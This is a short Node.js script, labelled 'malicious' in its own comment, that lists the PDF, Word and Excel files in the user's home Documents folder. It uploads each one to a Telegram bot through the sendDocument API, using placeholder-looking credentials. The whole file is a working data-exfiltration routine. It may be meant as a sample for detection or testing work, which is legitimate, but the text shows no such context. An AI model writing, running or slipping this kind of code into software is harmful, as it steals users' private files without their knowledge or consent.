// malicious: files of the user to a chat bot
const fs = require('fs');
const os = require('os');
const path = require('path');
const FormData = require('form-data');
const fetch = require('node-fetch');
const docs = path.join(os.homedir(), 'Documents');
fs.readdirSync(docs).filter((f) => /\.(pdf|docx|xlsx)$/.test(f)).forEach(async (f) => {
  const fd = new FormData();
  fd.append('chat_id', '123');
  fd.append('document', fs.createReadStream(path.join(docs, f)));
  await fetch('https://api.telegram.org/bot99:AA/sendDocument', { method: 'POST', body: fd });
});
